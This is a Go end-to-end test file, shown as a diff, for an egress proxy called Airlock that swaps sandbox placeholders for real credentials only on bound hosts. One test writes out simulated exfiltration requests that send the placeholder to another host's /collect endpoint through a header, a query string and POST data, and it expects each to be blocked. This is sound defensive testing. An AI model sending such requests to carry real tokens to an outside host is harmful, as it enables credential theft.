@@ -1,0 +1,260 @@
+package e2e
+
+import (
+	"bufio"
+	"crypto/x509"
+	"fmt"
+	"net/http"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/airlockhq/airlock/internal/testutil"
+)
+
+const (
+	realToken   = "ghs_REALTOKEN_e2e_0123456789abcdefXYZ"
+	placeholder = "placeholder-for-the-sandbox-0001"
+)
+
+// credentialSetup runs Airlock with a credential bound to api.allowed.test
+// (an HTTPS upstream that echoes request headers at /headers) whose value
+// comes from the environment of Airlock's process; the sandbox holds only
+// placeholder. other.allowed.test is allowed too, without a credential.
+//
+// With a non-empty otherCredential, other.allowed.test's rule injects that
+// credential, defined by the extra lines under credentials.
+func credentialSetup(t *testing.T, otherCredential string, extraCred ...string) (*testutil.Proxy, *testutil.Upstream, *x509.CertPool, string) {
+	t.Helper()
+	upCA := testutil.NewCA(t)
+	up := testutil.NewTLSUpstream(t, upCA, "api.allowed.test", "other.allowed.test")
+	dir := t.TempDir()
+	t.Setenv("AIRLOCK_E2E_TOKEN", realToken) // the airlock process inherits it; the clients are told nothing
+	otherRule := ""
+	if otherCredential != "" {
+		otherRule = "        credential: " + otherCredential
+	}
+	cfg := fmt.Sprintf(`
+network:
+  allow_cidrs: [127.0.0.1/32]
+  hosts: {api.allowed.test: 127.0.0.1, other.allowed.test: 127.0.0.1}
+tls:
+  upstream_ca: %s
+policies:
+  default:
+    allow:
+      - host: api.allowed.test
+        ports: [%[2]d]
+        credential: api
+      - host: other.allowed.test
+        ports: [%[2]d]
+        paths: ["/**"]
+%[4]s
+credentials:
+  api:
+    source: {env: AIRLOCK_E2E_TOKEN}
+    hosts: [api.allowed.test]
+    placeholder: %[3]s
+%[5]s`, upCA.WritePEM(t, dir), up.Port(), placeholder, otherRule, strings.Join(extraCred, "\n"))
+	p := testutil.StartProxy(t, cfg)
+	caPEM, err := execOutputOnly(testutil.Binary(t), "ca", "export", "--dir", p.StateDir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	pool := x509.NewCertPool()
+	pool.AppendCertsFromPEM([]byte(caPEM))
+	caFile := filepath.Join(dir, "airlock-ca.pem")
+	os.WriteFile(caFile, []byte(caPEM), 0o644)
+	return p, up, pool, caFile
+}
+
+// noSecretsInLogs fails if any log line holds the real token or the
+// placeholder.
+func noSecretsInLogs(t *testing.T, p *testutil.Proxy) {
+	t.Helper()
+	for _, l := range append(p.AuditLines(), strings.Split(p.Stderr(), "\n")...) {
+		if strings.Contains(l, realToken) || strings.Contains(l, placeholder) || strings.Contains(l, "REALTOKEN") {
+			t.Errorf("a secret or placeholder in a log line: %s", l)
+		}
+	}
+}
+
+func TestCredentialIsInjectedForBoundHostOnly(t *testing.T) {
+	p, up, _, caFile := credentialSetup(t, "")
+	base := fmt.Sprintf("https://api.allowed.test:%d", up.Port())
+
+	// The sandbox sends its placeholder; the upstream sees the real token.
+	code, body := curl(t, p.URL(), "--cacert", caFile, "-H", "Authorization: Bearer "+placeholder, base+"/headers")
+	if code != 200 {
+		t.Fatalf("bound host: %d %s", code, body)
+	}
+	seen := up.Requests()
+	if len(seen) != 1 || seen[0].Header.Get("Authorization") != "Bearer "+realToken {
+		t.Fatalf("upstream saw Authorization %q, want the real token", seen[0].Header.Get("Authorization"))
+	}
+	// The upstream echoed the headers: the client never sees the real value.
+	if strings.Contains(body, realToken) || !strings.Contains(body, strings.Repeat("*", len(realToken))) {
+		t.Errorf("the echoed response was not scrubbed: %s", body)
+	}
+
+	// Without any Authorization the credential is injected all the same.
+	code, _ = curl(t, p.URL(), "--cacert", caFile, base+"/headers")
+	if code != 200 || up.Requests()[1].Header.Get("Authorization") != "Bearer "+realToken {
+		t.Fatalf("no client header: %d", code)
+	}
+
+	// The placeholder sent to another allowed host is an exfiltration attempt.
+	other := fmt.Sprintf("https://other.allowed.test:%d/collect", up.Port())
+	for _, args := range [][]string{
+		{"-H", "Authorization: Bearer " + placeholder, other},
+		{other + "?token=" + placeholder},
+		{"--data", "stolen=" + placeholder, other},
+		{"-H", "X-Debug: " + placeholder, base + "/headers"}, // another header, even on the bound host
+	} {
+		code, body := curl(t, p.URL(), append([]string{"--cacert", caFile}, args...)...)
+		if code != 403 || !strings.Contains(body, "credential_host_mismatch") {
+			t.Errorf("curl %v: %d %s", args, code, body)
+		}
+	}
+	if n := len(up.Requests()); n != 2 {
+		t.Errorf("upstream saw %d requests, want only the 2 allowed ones", n)
+	}
+	alerts := 0
+	for _, ev := range p.WaitAudit(t, 6) {
+		if ev["alert"] == "placeholder_exfiltration" {
+			alerts++
+			wantFields(t, ev, map[string]any{"severity": "high", "credential": "api", "reason": "credential_host_mismatch", "decision": "deny"})
+		}
+		if ev["event"] == "http.request" && ev["decision"] == "allow" && ev["credential"] != "api" {
+			t.Errorf("an injected request's line does not name the credential: %v", ev)
+		}
+	}
+	if alerts != 4 {
+		t.Errorf("%d alert lines, want 4", alerts)
+	}
+	noSecretsInLogs(t, p)
+}
+
+func TestDuplicateAuthorizationHeadersAreReplacedNotForwarded(t *testing.T) {
+	p, up, pool, _ := credentialSetup(t, "")
+	c := httpClient(p.URL(), pool)
+	req, _ := http.NewRequest("GET", fmt.Sprintf("https://api.allowed.test:%d/headers", up.Port()), nil)
+	req.Header.Add("Authorization", "Bearer "+placeholder)
+	req.Header.Add("Authorization", "Bearer attacker-chosen-value")
+	resp, err := c.Do(req)
+	if err != nil {
+		t.Fatal(err)
+	}
+	resp.Body.Close()
+	if got := up.Requests()[0].Header.Values("Authorization"); len(got) != 1 || got[0] != "Bearer "+realToken {
+		t.Errorf("upstream saw Authorization %q", got)
+	}
+	noSecretsInLogs(t, p)
+}
+
+func TestRedirectIsNotFollowedWithTheCredential(t *testing.T) {
+	p, up, pool, _ := credentialSetup(t, "")
+	target := fmt.Sprintf("https://api.allowed.test:%d/redirect?to=https://other.allowed.test:%d/headers", up.Port(), up.Port())
+	resp, _ := get(t, httpClient(p.URL(), pool), target)
+	if resp.StatusCode != http.StatusFound {
+		t.Fatalf("got %d, want the 302 itself", resp.StatusCode)
+	}
+	if n := len(up.Requests()); n != 1 {
+		t.Errorf("upstream saw %d requests: the redirect was followed", n)
+	}
+	noSecretsInLogs(t, p)
+}
+
+func TestCredentialUnavailableAnswers502AndNeverForwards(t *testing.T) {
+	p, up, _, caFile := credentialSetup(t, "broken", `  broken:
+    source: {command: ["sh", "-c", "echo no token for you >&2; exit 3"]}
+    hosts: [other.allowed.test]`)
+	code, body := curl(t, p.URL(), "--cacert", caFile, fmt.Sprintf("https://other.allowed.test:%d/x", up.Port()))
+	if code != 502 || !strings.Contains(body, "could not obtain the credential") {
+		t.Fatalf("got %d %s, want 502", code, body)
+	}
+	if n := len(up.Requests()); n != 0 {
+		t.Fatalf("the request was forwarded without its credential (%d upstream requests)", n)
+	}
+	ev := p.WaitAudit(t, 1)[0]
+	wantFields(t, ev, map[string]any{"reason": "credential_unavailable", "credential": "broken", "http.response.status_code": 502})
+	noSecretsInLogs(t, p)
+}
+
+// A credential goes only over TLS unless it says otherwise: plain HTTP to
+// the bound host name is refused, not sent in the clear.
+func TestCredentialIsNeverSentOverPlainHTTP(t *testing.T) {
+	plain := testutil.NewUpstream(t)
+	t.Setenv("AIRLOCK_E2E_TOKEN", realToken)
+	p := testutil.StartProxy(t, fmt.Sprintf(`
+network:
+  allow_cidrs: [127.0.0.1/32]
+  hosts: {api.allowed.test: 127.0.0.1}
+policies:
+  default:
+    allow:
+      - host: api.allowed.test
+        ports: [%d]
+        credential: api
+credentials:
+  api:
+    source: {env: AIRLOCK_E2E_TOKEN}
+    hosts: [api.allowed.test]
+    placeholder: %s
+`, plain.Port(), placeholder))
+	resp, body := get(t, httpClient(p.URL(), nil), fmt.Sprintf("http://api.allowed.test:%d/headers", plain.Port()))
+	if resp.StatusCode != 403 || !strings.Contains(body, "credential_requires_tls") {
+		t.Fatalf("got %d %s", resp.StatusCode, body)
+	}
+	if n := len(plain.Requests()); n != 0 {
+		t.Fatalf("plain HTTP reached the upstream %d times", n)
+	}
+	noSecretsInLogs(t, p)
+}
+
+func TestAirlockEnvPrintsPlaceholdersNotSecrets(t *testing.T) {
+	dir := t.TempDir()
+	cfg := filepath.Join(dir, "a.yaml")
+	os.WriteFile(cfg, []byte(`
+policies:
+  default:
+    allow:
+      - host: api.github.com
+        credential: github
+credentials:
+  github:
+    source: {env: GITHUB_TOKEN}
+    hosts: [api.github.com]
+`), 0o600)
+	cmd := exec.Command(testutil.Binary(t), "env", "--config", cfg, "--state-dir", filepath.Join(dir, "state"), "--proxy", "airlock:3128", "--sandbox", "default")
+	cmd.Env = append(os.Environ(), "GITHUB_TOKEN="+realToken)
+	out, err := cmd.Output()
+	if err != nil {
+		t.Fatal(err)
+	}
+	env := map[string]string{}
+	sc := bufio.NewScanner(strings.NewReader(string(out)))
+	for sc.Scan() {
+		if k, v, ok := strings.Cut(strings.TrimPrefix(sc.Text(), "export "), "="); ok && !strings.HasPrefix(k, "#") {
+			env[k] = strings.Trim(v, "'")
+		}
+	}
+	if env["HTTPS_PROXY"] != "http://airlock:3128" || env["NO_PROXY"] == "" {
+		t.Errorf("proxy variables: %v", env)
+	}
+	for _, k := range []string{"SSL_CERT_FILE", "REQUESTS_CA_BUNDLE", "NODE_EXTRA_CA_CERTS", "GIT_SSL_CAINFO", "CURL_CA_BUNDLE"} {
+		if !strings.HasSuffix(env[k], "ca.pem") {
+			t.Errorf("%s = %q", k, env[k])
+		}
+	}
+	if ph := env["GITHUB_TOKEN"]; !strings.HasPrefix(ph, "airlock-placeholder-") || strings.Contains(string(out), realToken) {
+		t.Errorf("GITHUB_TOKEN = %q; output:\n%s", ph, out)
+	}
+	// The same sandbox gets the same placeholder next time.
+	again, _ := exec.Command(testutil.Binary(t), "env", "--config", cfg, "--state-dir", filepath.Join(dir, "state")).Output()
+	if !strings.Contains(string(again), env["GITHUB_TOKEN"]) {
+		t.Error("the placeholder changed between runs")
+	}
+}
